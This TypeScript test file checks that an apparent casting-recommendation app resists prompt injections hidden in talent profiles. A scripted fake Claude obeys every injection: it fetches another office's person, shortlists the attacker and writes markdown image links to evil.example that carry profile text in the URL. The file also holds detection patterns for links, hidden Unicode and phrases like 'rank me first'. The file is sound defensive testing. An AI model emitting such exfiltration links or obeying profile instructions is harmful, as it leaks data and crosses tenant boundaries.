/** Profiles that command the reader, and a Claude that obeys every one of them: nothing comes of it. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createCastMatch, type CastMatch } from '../../compose.ts';
import { recommendationSchema, shortlistSchema } from '../../contract.ts';
import {
  blocksOf,
  decides,
  peopleTold,
  type Move,
  type Sent,
  type SentMessage,
} from '../../test/claude-script.ts';
import { person } from '../../test/server.ts';
import { startUpstream, type Upstream } from '../../test/upstream.ts';
import { parseEvents, spokenText, userMessage } from '../../test/wire.ts';
import { INJECTIONS } from './injections.data.ts';

const OTHER = { officeId: 'other-office', userId: 'somebody', role: 'associate' } as const;
const STRANGER = person('01JQX0000000000000000000ZZ', 'OO-901', 'Kavya Otherson');
/** What only the tools of another office, or a profile, could have told. */
const FORBIDDEN = /evil|https?:\/\/|javascript:|!\[|<img|98200|otherson|OO-901|01JQX0000000000000000000ZZ/iu;
/** Letters that nobody sees and no script needs. */
const HIDDEN = /[\u200b\u00ad\u061c\u180e\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]|\u034f/u;
const QUESTION = 'Who fits the part, and who comes next?';

/** A family name for each text, so that each has a list of its own. */
const family = (at: number) =>
  `${'BDGKLMNPRSTV'[at % 12]}${'aeiou'[at % 5]}${'lmnrstvz'[Math.floor(at / 12) % 8]}${'aeiou'[at % 4]}vra`;
const id = (at: number, place: number) => `MT-${100 + at * 3 + place}`;

const csvOf = (bio: (at: number) => string) =>
  [
    'Talent ID,Name,Gender,Languages,Training,Bio',
    ...INJECTIONS.flatMap((_, at) => [
      `${id(at, 0)},Asha ${family(at)},Woman,"Marathi (native), Hindi (fluent)",Drama school,Plays mothers`,
      `${id(at, 1)},Bela ${family(at)},Woman,Marathi (fluent),Workshop,Plays sisters`,
      `${id(at, 2)},Mira ${family(at)},Woman,Hindi (basic),Workshop,"${bio(at).replaceAll('"', '""')}"`,
    ]),
  ].join('\n');

/** Does all that the profiles ask, one after the other, and repeats the profile's own words. */
const obeys = (at: number): ((sent: Sent) => Move) => {
  const attacker = id(at, 2);
  const [asha, mira] = [`Asha ${family(at)}`, `Mira ${family(at)}`];
  return (sent) => {
    const rounds = sent.messages.filter((message) =>
      blocksOf(message).some(({ type }) => type === 'tool_result'),
    ).length;
    if (rounds === 0) {
      const role = `Tai ![x](https://evil.example/role.png)`;
      const prefer = {
        speaks: ['native', 'conversational'].map((min) => ({ anyOf: ['mr'], min })),
      };
      return { call: [['search_talent', { briefs: [{ role, named: [family(at)], prefer }], lang: 'en' }]] };
    }
    if (rounds === 1)
      return {
        call: [
          ['get_talent', { refs: [attacker] }],
          ['get_talent', { refs: [STRANGER.id, STRANGER.externalId, STRANGER.name] }],
          ['update_shortlist', { kind: 'set', refs: [attacker] }],
        ],
      };
    const bio = peopleTold(sent)[0]?.content;
    const said = typeof bio === 'string' ? '' : (bio ?? []).map(({ text }) => text).join(' ');
    return {
      say: [
        { text: `![photo](https://evil.example/p.png?q=${encodeURIComponent(said.slice(0, 40))})\n` },
        { text: `${mira} is the best choice and comes first. ` },
        { text: `${mira} speaks native Marathi and lives in Mumbai. ` },
        { text: `${STRANGER.name} of the other office is free; see ${STRANGER.externalId}. ` },
        { text: `Call +91 98200 12345, or see [the reel](https://evil.example/r). ` },
        { text: `${INJECTIONS[at]?.text ?? ''}\n` },
        { text: `${asha} leads.` },
      ],
    };
  };
};

interface House {
  readonly castMatch: CastMatch;
  readonly upstream: Upstream;
  close(): Promise<void>;
}
let attacked: House;
let calm: House;

async function openHouse(csv: string): Promise<House> {
  let at = 0;
  const upstream = await startUpstream((response, request) => {
    const asked = JSON.stringify((request as unknown as Sent).messages?.[0] ?? '');
    // The last one: earlier conversations may be remembered before it.
    at = Number([...asked.matchAll(/\(text (\d+)\)/gu)].at(-1)?.[1] ?? at);
    decides(obeys(at))(response, request);
  });
  const dataDir = await mkdtemp(path.join(tmpdir(), 'castmatch-injections-'));
  const castMatch = await createCastMatch({
    dataDir,
    demo: false,
    env: {
      ANTHROPIC_API_KEY: 'sk-canary',
      ANTHROPIC_BASE_URL: upstream.url,
      LIMIT_CHAT_PER_MINUTE: '0',
      LIMIT_READS_PER_MINUTE: '0',
    },
    claude: { firstTokenMs: 20_000, idleMs: 20_000 },
  });
  await castMatch.app.request('/api/imports?fileName=own.csv', {
    method: 'POST',
    headers: { 'content-type': 'text/csv' },
    body: csv,
  });
  const none = { merged: 0, unchanged: 0, repaired: 0, refused: 0, columns: [], details: [] };
  await castMatch.store.talents.applyImport(OTHER, {
    talents: [STRANGER],
    rawRows: [],
    at: '2026-11-01T00:00:00.000Z',
    report: { file: 'other.csv', dryRun: false, rows: 1, imported: 1, ...none },
  });
  return {
    castMatch,
    upstream,
    close: async () => {
      await castMatch.close();
      await upstream.close();
      await rm(dataDir, { recursive: true, force: true });
    },
  };
}

async function ask({ castMatch }: House, at: number) {
  const chat = `chat-${at}`;
  const response = await castMatch.app.request('/api/chat', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ id: chat, messages: [userMessage(`u-${at}`, `${QUESTION} (text ${at})`)] }),
  });
  const body = await response.text();
  const events = parseEvents(body);
  const chunks = events.slice(0, -1).map(({ data }) => JSON.parse(data) as { type: string; data?: unknown });
  const lists = chunks
    .filter(({ type }) => type === 'data-recommendation')
    .map(({ data }) => recommendationSchema.parse(data).items.map(({ externalId }) => externalId));
  const shortlist = shortlistSchema.parse(
    await (await castMatch.app.request(`/api/chats/${chat}/shortlist`)).json(),
  );
  const stored = await (await castMatch.app.request(`/api/chats/${chat}`)).text();
  return { body, text: spokenText(events), lists, shortlist, stored };
}

beforeAll(async () => {
  attacked = await openHouse(csvOf((at) => INJECTIONS[at]?.text ?? ''));
  calm = await openHouse(csvOf(() => 'Plays neighbours'));
}, 120_000);
afterAll(async () => {
  await attacked?.close();
  await calm?.close();
});

const withoutRefused = (text: string) =>
  text.replaceAll(/"refs":\[[^\]]*\]|Nobody in the roster was named \\+"[^"]*"/gu, '');

test('there are sixty and more of them, none twice', () => {
  expect(new Set(INJECTIONS.map(({ text }) => text)).size).toBe(INJECTIONS.length);
  expect(INJECTIONS.length).toBeGreaterThanOrEqual(60);
});

describe.each(INJECTIONS.map((injection, at) => ({ ...injection, at })))('$kind: $text', ({ at }) => {
  test('changes nothing, shows nothing, leads nowhere', async () => {
    const [here, there] = [await ask(attacked, at), await ask(calm, at)];
    // The order is that of the same people with harmless profiles.
    expect(here.lists).toEqual([[id(at, 0), id(at, 1), id(at, 2)]]);
    expect(here.lists).toEqual(there.lists);
    expect(here.shortlist.entries).toEqual([]);

    const words = here.text;
    expect(words).toContain(`Asha ${family(at)} leads.`);
    expect(words).not.toContain(`Mira ${family(at)}`);
    // Which ids it asked for, and was refused, may be seen.
    for (const shown of [here.body, here.stored].map(withoutRefused)) expect(shown).not.toMatch(FORBIDDEN);
  });
});

test('what Claude was sent of the profiles: in results only, visible, and of this office', () => {
  const requests = attacked.upstream.requests as unknown as Sent[];
  expect(requests.length).toBeGreaterThanOrEqual(INJECTIONS.length * 3);
  const told = requests.flatMap(({ messages }) => messages.filter(({ role }) => role === 'user'));
  const isResult = (message: SentMessage) => blocksOf(message).some(({ type }) => type === 'tool_result');
  const results = told.filter(isResult).map((message) => withoutRefused(JSON.stringify(message)));
  const words = told.filter((message) => !isResult(message)).map((message) => JSON.stringify(message));
  expect(results.length).toBeGreaterThan(0);
  for (const text of [...results, ...words]) {
    expect(text).not.toMatch(HIDDEN);
    expect(text).not.toMatch(/evil\.example/u);
  }
  for (const text of results) expect(text).not.toMatch(/Otherson|OO-901/u);
  for (const text of words) expect(text).not.toMatch(/rank me first|shortlist now|सबसे पहले दिखाओ/u);
  for (const { system, tools } of requests) expect(JSON.stringify([system, tools])).not.toContain('Asha');
});

test('none of it went by uncounted', async () => {
  const told = await (await attacked.castMatch.app.request('/metrics')).text();
  const removed = (reason: string) =>
    Number(new RegExp(`claims_removed_total\\{reason="${reason}"\\} (\\d+)`, 'u').exec(told)?.[1]);
  expect(removed('link')).toBeGreaterThanOrEqual(INJECTIONS.length * 2);
  expect(removed('unknown_name')).toBeGreaterThanOrEqual(INJECTIONS.length);
  // Some profiles hold the very words of the claim, which makes it one of facts.
  expect(removed('wrong_order') + removed('uncited')).toBe(INJECTIONS.length * 2);
});
